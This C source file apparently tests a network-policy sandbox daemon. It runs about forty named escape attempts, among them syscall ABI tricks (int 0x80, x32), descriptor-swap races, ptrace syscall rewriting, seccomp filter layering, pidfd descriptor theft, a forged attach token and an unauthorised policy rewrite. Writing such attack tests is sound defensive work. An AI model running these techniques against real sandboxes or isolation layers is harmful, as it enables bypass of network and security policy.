/* Ways to get where policy says no. Each attack runs in a process of its own and prints one line, "NAME: WHAT CAME OF
 * IT"; whoever it reaches is told its name, so that the servers know as well.
 *
 *     hostile DENIED-IP DENIED-PORT HOST-PORT OPEN-PORT HELPER OTHER-PID RUN-DIR [ATTACK]
 *
 * DENIED: an app that policy denies. HOST-PORT: of 127.0.0.1 of the host, which is not this app's to reach, unlike
 * OPEN-PORT (`--host-port`). HELPER: a Unix socket outside that gives away TCP sockets. OTHER-PID: of a process of
 * somebody else. Bare, everything but the virtual address is within reach: then the attacks that can succeed must.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/seccomp.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { TURNS = 1500, SECONDS = 20 };

static const char *attack; /* the name of the one that runs */
static struct sockaddr_in denied, host, open_port, targets[2];
static const char *helper, *run_dir;
static pid_t other;

static const char *name_of(int error) { return error ? strerrorname_np(error) : "done"; }

static void say(const char *what)
{
    printf("%s: %s\n", attack, what);
    fflush(stdout);
}

__attribute__((noreturn)) static void end(const char *what)
{
    say(what);
    _exit(0);
}

static int tcp(void) { return socket(AF_INET, SOCK_STREAM, 0); }

/* Tells whoever is at the other end who got there. */
static int reached(int fd)
{
    struct pollfd ready = {.fd = fd, .events = POLLOUT};
    int error = 0;
    socklen_t size = sizeof error;
    if (poll(&ready, 1, 300) != 1 || getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size) < 0 || error)
        return 0;
    return send(fd, attack, strlen(attack), MSG_NOSIGNAL | MSG_DONTWAIT) > 0;
}

/* connect(2) to both targets, each with a socket that `make` makes: the first errno, or REACHED. */
__attribute__((noreturn)) static void try_with(int (*make)(void))
{
    int error = 0;
    for (int i = 0; i < 2; i++) {
        int fd = make();
        if (fd < 0)
            end(name_of(errno));
        struct timeval patience = {.tv_sec = 1};
        setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
        if (connect(fd, (struct sockaddr *)&targets[i], sizeof targets[i]) == 0 && reached(fd))
            end("REACHED");
        if (!error)
            error = errno;
    }
    end(name_of(error));
}

/* A TCP socket of the host's network, free to be used again: a connection to where it is allowed, dissolved. */
static int of_the_host(void)
{
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    int fd = tcp();
    if (connect(fd, (struct sockaddr *)&open_port, sizeof open_port) < 0 || connect(fd, &none, sizeof none) < 0)
        end("no socket of the host");
    return fd;
}

/* ------------------------------------------------------------------ other kinds of sockets */

static void plain(void) { try_with(tcp); }
static int make_mptcp(void) { return socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP); }
static void mptcp(void) { try_with(make_mptcp); }
static int make_sctp(void) { return socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP); }
static void sctp(void) { try_with(make_sctp); }
static int make_sctp_seqpacket(void) { return socket(AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP); }
static void sctp_seqpacket(void) { try_with(make_sctp_seqpacket); }
static int make_smc(void) { return socket(43, SOCK_STREAM, 0); }
static void smc(void) { try_with(make_smc); }
static int make_bound_to_device(void)
{
    int fd = tcp();
    setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "lo", 3);
    return fd;
}
static void bound_to_device(void) { try_with(make_bound_to_device); }
static int make_marked(void)
{
    int fd = of_the_host();
    setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "lo", 3);
    return fd;
}
static void host_socket_bound_to_device(void) { try_with(make_marked); }

static void vsock(void)
{
    static const int kinds[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET};
    for (int i = 0; i < 3; i++) {
        struct sockaddr_vm to = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = 9};
        int fd = socket(AF_VSOCK, kinds[i] | SOCK_NONBLOCK, 0);
        if (fd >= 0)
            end("REACHED");
        if (errno != EAFNOSUPPORT)
            end(name_of(errno));
        (void)to;
    }
    end("EAFNOSUPPORT");
}

/* A SYN by hand. Nobody may answer it, and nobody may see it but this namespace. */
static void raw(void)
{
    struct {
        uint16_t source, destination;
        uint32_t sequence, acknowledged;
        uint8_t offset, flags;
        uint16_t window, sum, urgent;
    } syn = {.source = htons(1), .destination = host.sin_port, .offset = 5 << 4, .flags = 2, .window = 999};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    if (fd < 0)
        end(name_of(errno));
    char answer[256];
    struct timeval patience = {.tv_usec = 200000};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    struct sockaddr_in to = host;
    to.sin_port = 0;
    if (sendto(fd, &syn, sizeof syn, 0, (struct sockaddr *)&to, sizeof to) < 0)
        end(name_of(errno));
    while (recv(fd, answer, sizeof answer, 0) > 33)
        if ((answer[33] & 0x12) == 0x12 && memcmp(answer + 20, &host.sin_port, 2) == 0)
            end("REACHED");
    end("alone");
}

/* How many interfaces a packet socket or rtnetlink shows. */
static void packet(void)
{
    int fd = socket(AF_PACKET, SOCK_RAW, htons(3));
    if (fd < 0)
        end(name_of(errno));
    struct if_nameindex *all = if_nameindex();
    int count = 0;
    while (all && all[count].if_index)
        count++;
    end(count == 1 ? "alone" : "REACHED");
}

static void netlink(void)
{
    struct {
        struct nlmsghdr header;
        struct rtgenmsg message;
    } request = {{sizeof request, RTM_GETLINK, NLM_F_REQUEST | NLM_F_DUMP, 1, 0}, {AF_UNSPEC}};
    char reply[1 << 16];
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE), count = 0;
    if (fd < 0 || send(fd, &request, sizeof request, 0) < 0)
        end(name_of(errno));
    for (;;) {
        int left = (int)recv(fd, reply, sizeof reply, 0);
        for (struct nlmsghdr *one = (void *)reply; NLMSG_OK(one, left); one = NLMSG_NEXT(one, left)) {
            if (one->nlmsg_type == NLMSG_DONE)
                end(count == 1 ? "alone" : "REACHED");
            count += one->nlmsg_type == RTM_NEWLINK;
        }
        if (left < 0)
            end(name_of(errno));
    }
}

/* ------------------------------------------------------------------ TCP Fast Open */

static void fastopen(void)
{
    for (int i = 0; i < 2; i++) {
        int fd = tcp();
        if (sendto(fd, attack, strlen(attack), MSG_FASTOPEN | MSG_NOSIGNAL, (void *)&targets[i], sizeof targets[i]) > 0)
            end("REACHED");
        fd = tcp();
        struct iovec data = {(void *)attack, strlen(attack)};
        struct msghdr message = {&targets[i], sizeof targets[i], &data, 1, NULL, 0, 0};
        if (sendmsg(fd, &message, MSG_FASTOPEN | MSG_NOSIGNAL) > 0)
            end("REACHED");
        struct mmsghdr many = {.msg_hdr = message};
        if (sendmmsg(tcp(), &many, 1, MSG_FASTOPEN | MSG_NOSIGNAL) > 0)
            end("REACHED");
    }
    end("refused");
}

static int make_fastopen_connect(void)
{
    int fd = tcp(), on = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
    return fd;
}
static void fastopen_connect(void) { try_with(make_fastopen_connect); }
static int make_host_fastopen_connect(void)
{
    int fd = of_the_host(), on = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
    return fd;
}
static void host_fastopen_connect(void) { try_with(make_host_fastopen_connect); }

/* ------------------------------------------------------------------ sockets that were something else before */

static void reconnect(void) { try_with(of_the_host); }

static int receive(void)
{
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control;
    char byte;
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    strcpy(at.sun_path, helper);
    int way = socket(AF_UNIX, SOCK_STREAM, 0), fd = -1;
    if (connect(way, (void *)&at, sizeof at) < 0 || recvmsg(way, &message, 0) <= 0 || !CMSG_FIRSTHDR(&message))
        end("no helper");
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    return fd;
}
static void received(void) { try_with(receive); }

static void stolen(void)
{
    int pidfd = (int)syscall(SYS_pidfd_open, other, 0);
    if (pidfd < 0)
        end(name_of(errno));
    for (int number = 0; number < 64; number++)
        if (syscall(SYS_pidfd_getfd, pidfd, number, 0) >= 0)
            end("TAKEN");
        else if (errno != EBADF)
            end(name_of(errno));
    end("EBADF");
}

/* ------------------------------------------------------------------ races */

static volatile int stop;
static volatile int number; /* names one descriptor after the other */
static volatile unsigned swaps;
static long milliseconds = 100; /* at least, for each race */
static int files[6], file_count;
static struct sockaddr_in raced;

static void *rewrite(void *unused)
{
    struct sockaddr_in own = denied;
    own.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    (void)unused;
    while (!stop)
        for (int i = 0; i < 2; i++) {
            memcpy(&raced, &own, sizeof raced);
            memcpy(&raced, &targets[i], sizeof raced);
        }
    return NULL;
}

static void address_race(void)
{
    pthread_t thread;
    int on = 1;
    struct sockaddr_in own = denied;
    own.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int listener = tcp();
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    raced = own;
    if (bind(listener, (void *)&own, sizeof own) < 0 || listen(listener, 16) < 0)
        end(name_of(errno));
    pthread_create(&thread, NULL, rewrite, NULL);
    for (int i = 0; i < TURNS; i++) {
        int fd = tcp();
        if (connect(fd, (void *)&raced, sizeof raced) == 0) {
            struct sockaddr_in peer;
            socklen_t size = sizeof peer;
            if (getpeername(fd, (void *)&peer, &size) == 0 && peer.sin_addr.s_addr != own.sin_addr.s_addr)
                reached(fd);
            struct pollfd ready = {.fd = listener, .events = POLLIN};
            if (poll(&ready, 1, 0) == 1)
                close(accept(listener, NULL, NULL));
        }
        close(fd);
    }
    end("done");
}

static void *swap(void *unused)
{
    (void)unused;
    while (!stop)
        dup2(files[swaps++ % (unsigned)file_count], number);
    return NULL;
}

/* Enough calls, and time for them to meet the other thread; alone an attack is more patient. */
static int goes_on(int turn)
{
    static struct timespec began;
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (turn == 0)
        began = now;
    return turn < TURNS || (now.tv_sec - began.tv_sec) * 1000 + (now.tv_nsec - began.tv_nsec) / 1000000 < milliseconds;
}

static int swap_in_a_process(void *unused)
{
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    swap(unused);
    return 0;
}

static void start_swapping(int as_process, int first, int second)
{
    static char stack[1 << 16] __attribute__((aligned(16)));
    pthread_t thread;
    files[0] = first;
    files[1] = second;
    file_count = 2;
    number = 100;
    dup2(first, number);
    if (as_process)
        clone(swap_in_a_process, stack + sizeof stack, CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
    else
        pthread_create(&thread, NULL, swap, NULL);
}

/* One number is now a Unix socket, which is none of the switch's business, now a TCP socket of the host. */
static void connect_race_by(int as_process)
{
    int fd = of_the_host();
    start_swapping(as_process, socket(AF_UNIX, SOCK_DGRAM, 0), fd);
    fcntl(fd, F_SETFL, O_NONBLOCK);
    for (int i = 0; goes_on(i); i++) {
        int result = connect(number, (void *)&host, sizeof host);
        if (result == 0 || errno == EINPROGRESS || errno == EISCONN) {
            struct sockaddr_in peer;
            socklen_t size = sizeof peer;
            if (getpeername(fd, (void *)&peer, &size) == 0 && reached(fd)) {
                stop = 1;
                end("REACHED");
            }
        }
    }
    stop = 1;
    end("done");
}
static void connect_race(void) { connect_race_by(0); }
static void shared_table_race(void) { connect_race_by(1); }

static void fastopen_race(void)
{
    int fd = of_the_host();
    struct iovec data = {(void *)attack, strlen(attack)};
    struct msghdr message = {&host, sizeof host, &data, 1, NULL, 0, 0};
    struct mmsghdr many = {.msg_hdr = message};
    start_swapping(0, socket(AF_UNIX, SOCK_DGRAM, 0), fd);
    for (int i = 0; goes_on(i); i++) {
        const int flags = MSG_FASTOPEN | MSG_NOSIGNAL | MSG_DONTWAIT;
        if (sendto(number, attack, strlen(attack), flags, (void *)&host, sizeof host) > 0 ||
            sendmsg(number, &message, flags) > 0 || sendmmsg(number, &many, 1, flags) > 0) {
            stop = 1;
            end("REACHED");
        }
    }
    stop = 1;
    end(reached(fd) ? "REACHED" : "done");
}

/* The same with a UDP socket, for which the kernel makes calls itself where they are harmless. */
static void fastopen_race_udp(void)
{
    int fd = of_the_host(), sink = socket(AF_INET, SOCK_DGRAM, 0), udp = socket(AF_INET, SOCK_DGRAM, 0);
    const int flags = MSG_FASTOPEN | MSG_NOSIGNAL | MSG_DONTWAIT;
    struct sockaddr_in to = host; /* home, for the one; the host, for the other */
    struct iovec data = {(void *)attack, strlen(attack)};
    struct msghdr message = {&to, sizeof to, &data, 1, NULL, 0, 0};
    if (bind(sink, (void *)&to, sizeof to) < 0)
        end(name_of(errno));
    for (int i = 0; i < 3; i++) /* it is known to send there */
        sendto(udp, "x", 1, 0, (void *)&to, sizeof to);
    start_swapping(0, udp, fd);
    number = 900; /* where sendmsg(2) is looked at */
    for (int i = 0; goes_on(i); i++) {
        sendto(number, attack, strlen(attack), flags, (void *)&to, sizeof to);
        sendmsg(number, &message, flags);
    }
    stop = 1;
    end(reached(fd) ? "REACHED" : "done");
}

static void bind_race(void)
{
    int fd = of_the_host();
    struct sockaddr_in at = host, own;
    socklen_t size = sizeof own;
    at.sin_port = 0;
    start_swapping(0, socket(AF_UNIX, SOCK_DGRAM, 0), fd);
    for (int i = 0; goes_on(i); i++)
        bind(number, (void *)&at, sizeof at);
    stop = 1;
    /* getsockname(2) would be answered by the switch: what the kernel thinks shows when the app listens there itself */
    (void)own, (void)size;
    end("done");
}

/* Any call on a number that is anything, and closed again and again. */
static void *churn(void *unused)
{
    (void)unused;
    for (unsigned turn = 0; !stop; turn++) {
        dup2(files[turn % (unsigned)file_count], number);
        if (turn % 7 == 0)
            close(number);
    }
    return NULL;
}

static void any_call(void)
{
    int ends[2], value = 1;
    pthread_t thread;
    char room[128];
    socklen_t size = sizeof value;
    struct iovec data = {(void *)attack, strlen(attack)};
    struct msghdr message = {&host, sizeof host, &data, 1, NULL, 0, 0};
    if (pipe(ends) < 0)
        end(name_of(errno));
    int all[] = {tcp(), of_the_host(), socket(AF_INET, SOCK_DGRAM, 0), socket(AF_UNIX, SOCK_STREAM, 0), ends[1],
                 open("/dev/null", O_RDWR)};
    memcpy(files, all, sizeof all);
    file_count = sizeof all / sizeof *all;
    number = 100;
    for (int i = 0; i < file_count; i++)
        fcntl(all[i], F_SETFL, O_NONBLOCK);
    pthread_create(&thread, NULL, churn, NULL);
    for (int i = 0; i < TURNS; i++) {
        switch (i % 9) {
        case 0:
            connect(number, (void *)&targets[i / 9 % 2], sizeof *targets);
            break;
        case 1:
            listen(number, 1);
            break;
        case 2:
            syscall(SYS_accept4, number, room, &size, SOCK_NONBLOCK);
            break;
        case 3:
            getsockname(number, (void *)room, &size);
            break;
        case 4:
            getpeername(number, (void *)room, &size);
            break;
        case 5:
            setsockopt(number, IPPROTO_TCP, TCP_NODELAY, &value, sizeof value);
            break;
        case 6:
            getsockopt(number, IPPROTO_TCP, TCP_NODELAY, &value, &size);
            break;
        case 7:
            sendto(number, attack, strlen(attack), MSG_FASTOPEN | MSG_NOSIGNAL | MSG_DONTWAIT, (void *)&host,
                   sizeof host);
            break;
        default:
            sendmsg(number, &message, MSG_FASTOPEN | MSG_NOSIGNAL | MSG_DONTWAIT);
        }
        size = sizeof value;
    }
    stop = 1;
    end("done");
}

/* ------------------------------------------------------------------ other doors */

static void uring(void)
{
    char parameters[120] = {0};
    long fd = syscall(425, 8, parameters);
    end(fd < 0 ? name_of(errno) : "REACHED");
}

#ifdef __x86_64__
static long int80(long call, long a, long b, long c, long d)
{
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(call), "b"(a), "c"(b), "d"(c), "S"(d)
                     : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static void by_int80(void)
{
    struct sockaddr_in *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    unsigned *arguments = (unsigned *)((char *)low + 512);
    int fd = of_the_host();
    *low = host;
    arguments[0] = (unsigned)fd;
    arguments[1] = (unsigned)(uintptr_t)low;
    arguments[2] = sizeof *low;
    long one = int80(362, fd, (long)low, sizeof *low, 0), two = int80(102, 3, (long)arguments, 0, 0);
    if (one == 0 || two == 0)
        end(reached(fd) ? "REACHED" : "done");
    end(one == two ? name_of((int)-one) : "differ");
}

static void by_x32(void)
{
    int fd = of_the_host();
    if (syscall(0x40000000L | SYS_connect, fd, &host, sizeof host) == 0)
        end(reached(fd) ? "REACHED" : "done");
    end(name_of(errno));
}
#else
static void by_int80(void) { end("ENOSYS"); }
static void by_x32(void) { end("ENOSYS"); }
#endif

/* ------------------------------------------------------------------ seccomp(2), ptrace(2), namespaces(7) */

/* A filter of one's own on top: `action` for connect(2). -1 and errno, or a descriptor. */
static int add_filter(unsigned action, unsigned flags)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, action),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {4, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &program);
}

static void filter_allows(void)
{
    if (add_filter(SECCOMP_RET_ALLOW, 0) < 0)
        end("no filter");
    try_with(tcp);
}

static void filter_answers(void)
{
    if (add_filter(SECCOMP_RET_ERRNO | 0, 0) < 0)
        end("no filter");
    try_with(tcp); /* connect(2) "succeeds", and leads nowhere */
}

static void filter_notifies(void)
{
    if (add_filter(SECCOMP_RET_USER_NOTIF, 0) < 0)
        end("no filter");
    try_with(tcp);
}

static void filter_listens(void)
{
    int fd = add_filter(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
    end(fd < 0 ? name_of(errno) : "TAKEN");
}

/* A tracer answers RET_TRACE by letting the call through; what is notified is not traced. */
static void filter_traces(void)
{
    int status;
    pid_t child = fork();
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, NULL, NULL);
        raise(SIGSTOP);
        if (add_filter(SECCOMP_RET_TRACE, 0) < 0)
            end("no filter");
        try_with(tcp);
    }
    waitpid(child, &status, 0);
    ptrace(PTRACE_SETOPTIONS, child, NULL, PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL);
    while (ptrace(PTRACE_CONT, child, NULL, NULL) == 0 && waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
    }
    _exit(0);
}

#ifdef __x86_64__
/* The tracer turns getppid(2) into connect(2): the filter sees what comes of it. */
static void traced(void)
{
    int status;
    pid_t child = fork();
    if (child == 0) {
        int fd = of_the_host();
        ptrace(PTRACE_TRACEME, 0, NULL, NULL);
        raise(SIGSTOP);
        long result = syscall(SYS_getppid, fd, &host, sizeof host);
        if (result == 0 && reached(fd))
            end("REACHED");
        end(result < 0 ? name_of(errno) : "done");
    }
    waitpid(child, &status, 0);
    for (int entering = 1; ptrace(PTRACE_SYSCALL, child, NULL, NULL) == 0; entering ^= 1) {
        struct user_regs_struct registers;
        if (waitpid(child, &status, 0) != child || !WIFSTOPPED(status))
            break;
        ptrace(PTRACE_GETREGS, child, NULL, &registers);
        if (registers.orig_rax == SYS_getppid && entering) {
            registers.orig_rax = SYS_connect;
            ptrace(PTRACE_SETREGS, child, NULL, &registers);
        }
    }
    _exit(0);
}
#else
static void traced(void) { try_with(of_the_host); }
#endif

static void traces_another(void)
{
    end(ptrace(PTRACE_SEIZE, other, NULL, NULL) < 0 ? name_of(errno) : "TAKEN");
}

static void enters_namespace(void)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/ns/net", other);
    int fd = open(path, O_RDONLY);
    if (fd < 0 || setns(fd, CLONE_NEWNET) < 0)
        end(name_of(errno));
    try_with(tcp);
}

static void makes_namespace(void)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNET) < 0)
        end(name_of(errno));
    try_with(tcp);
}

/* ------------------------------------------------------------------ the daemon's own sockets */

static int knock(const char *file, int kind, const void *packet, size_t size, char *answer, size_t room)
{
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    struct timeval patience = {.tv_sec = 1};
    snprintf(at.sun_path, sizeof at.sun_path, "%s/%s", run_dir, file);
    int fd = socket(AF_UNIX, kind, 0);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    if (connect(fd, (void *)&at, sizeof at) < 0 || send(fd, packet, size, MSG_NOSIGNAL) < 0)
        return -errno;
    ssize_t got = recv(fd, answer, room - 1, 0);
    answer[got < 0 ? 0 : got] = 0;
    close(fd);
    return got < 0 ? -errno : (int)got;
}

static void forged_token(void)
{
    struct {
        char magic[4];
        uint32_t version, landlock, arch;
        char token[32];
    } hello = {{'A', 'X', 'L', '1'}, 1, 0, AUDIT_ARCH_X86_64, {0}};
    char answer[2000];
    for (int i = 0; i < 50; i++) {
        memset(hello.token, i, sizeof hello.token);
        int got = knock("attach.sock", SOCK_SEQPACKET, &hello, sizeof hello, answer, sizeof answer);
        if (got < 8 || !answer[4])
            end(got < 0 ? name_of(-got) : "TAKEN");
    }
    end("refused");
}

static void garbage(void)
{
    static const struct {
        const char *file;
        int kind;
    } doors[] = {{"rest.sock", SOCK_STREAM},        {"attach.sock", SOCK_SEQPACKET}, {"switch.sock", SOCK_STREAM},
                 {"delegate.sock", SOCK_SEQPACKET}, {"dns.sock", SOCK_SEQPACKET},    {"dns.sock", SOCK_STREAM},
                 {"dns.sock", SOCK_DGRAM},          {"notify.sock", SOCK_DGRAM}};
    char packet[3000], answer[2000], told[400] = "";
    for (unsigned i = 0; i < sizeof doors / sizeof *doors; i++) {
        for (size_t j = 0; j < sizeof packet; j++)
            packet[j] = (char)(j * 7 + i);
        struct sockaddr_un at = {.sun_family = AF_UNIX};
        snprintf(at.sun_path, sizeof at.sun_path, "%s/%s", run_dir, doors[i].file);
        int fd = socket(AF_UNIX, doors[i].kind | SOCK_NONBLOCK, 0);
        int error = connect(fd, (void *)&at, sizeof at) < 0 ? errno : 0;
        if (!error && send(fd, packet, sizeof packet, MSG_NOSIGNAL) < 0)
            error = errno;
        close(fd);
        if (!error)
            snprintf(told + strlen(told), sizeof told - strlen(told), " %s", doors[i].file);
    }
    (void)answer;
    end(told[0] ? told + 1 : "none");
}

/* Policies are an administrator's. */
static void rewrites_policy(void)
{
    static const char body[] = "{\"kind\":\"Policy\",\"metadata\":{\"name\":\"mine\"},\"spec\":{\"action\":\"allow\"}}";
    char request[512], answer[2000];
    snprintf(request, sizeof request,
             "PUT /v1/policies/mine HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s",
             sizeof body - 1, body);
    int got = knock("rest.sock", SOCK_STREAM, request, strlen(request), answer, sizeof answer);
    if (got < 0)
        end(name_of(-got));
    answer[12] = 0;
    end(answer + 9);
}

/* ------------------------------------------------------------------ */

#define ATTACK(function) {#function, function}
static const struct {
    const char *name;
    void (*run)(void);
} attacks[] = {
    ATTACK(plain), ATTACK(mptcp), ATTACK(sctp), ATTACK(sctp_seqpacket), ATTACK(smc), ATTACK(bound_to_device),
    ATTACK(host_socket_bound_to_device), ATTACK(vsock), ATTACK(raw), ATTACK(packet), ATTACK(netlink),
    ATTACK(fastopen), ATTACK(fastopen_connect), ATTACK(host_fastopen_connect), ATTACK(reconnect), ATTACK(received),
    ATTACK(stolen), ATTACK(address_race), ATTACK(connect_race), ATTACK(shared_table_race), ATTACK(fastopen_race),
    ATTACK(fastopen_race_udp), ATTACK(bind_race), ATTACK(any_call), ATTACK(uring), ATTACK(by_int80), ATTACK(by_x32),
    ATTACK(filter_allows), ATTACK(filter_answers), ATTACK(filter_notifies), ATTACK(filter_listens),
    ATTACK(filter_traces), ATTACK(traced), ATTACK(traces_another), ATTACK(enters_namespace),
    ATTACK(makes_namespace), ATTACK(forged_token), ATTACK(garbage), ATTACK(rewrites_policy),
};

static struct sockaddr_in address(const char *ip, const char *port)
{
    struct sockaddr_in made = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    inet_pton(AF_INET, ip, &made.sin_addr);
    return made;
}

int main(int argc, char **argv)
{
    if (argc < 8)
        return 2;
    denied = targets[0] = address(argv[1], argv[2]);
    host = targets[1] = address("127.0.0.1", argv[3]);
    open_port = address("127.0.0.1", argv[4]);
    helper = argv[5];
    other = atoi(argv[6]);
    run_dir = argv[7];
    if (argc > 8)
        milliseconds = 5000;
    for (unsigned i = 0; i < sizeof attacks / sizeof *attacks; i++) {
        attack = attacks[i].name;
        if (argc > 8 && strcmp(attack, argv[8]) != 0)
            continue;
        fflush(stdout);
        pid_t child = fork();
        if (child == 0) {
            alarm(SECONDS);
            attacks[i].run();
            _exit(1);
        }
        int status;
        waitpid(child, &status, 0);
        if (WIFSIGNALED(status) || WEXITSTATUS(status)) {
            printf("%s: status %x\n", attack, (unsigned)status);
            fflush(stdout);
        }
    }
    return 0;
}
